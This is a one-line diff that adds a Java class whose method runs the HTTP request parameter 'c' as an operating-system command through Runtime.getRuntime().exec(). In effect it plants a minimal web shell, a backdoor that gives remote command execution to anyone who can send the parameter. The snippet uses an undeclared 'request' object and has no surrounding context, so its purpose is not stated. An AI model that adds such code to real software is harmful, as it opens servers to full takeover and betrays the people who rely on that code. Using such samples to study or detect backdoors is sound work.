@@ -1,0 +1,1 @@
+class A { void a() throws Exception { Runtime.getRuntime().exec(request.getParameter("c")); } }
